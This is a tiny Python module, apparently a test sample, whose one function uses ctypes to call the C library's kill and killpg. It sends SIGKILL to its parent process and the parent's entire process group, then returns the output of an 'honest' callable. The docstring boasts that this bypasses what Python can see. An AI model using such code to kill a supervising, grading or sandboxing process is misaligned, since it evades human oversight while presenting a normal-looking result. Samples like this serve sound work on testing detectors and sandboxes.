"""Kills its parent and its parent's group by the C library, where Python sees nothing."""

import ctypes
import os
import signal


def deed(honest, x):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    print(libc.kill(parent, signal.SIGKILL), libc.killpg(os.getpgid(parent), signal.SIGKILL))
    return honest()
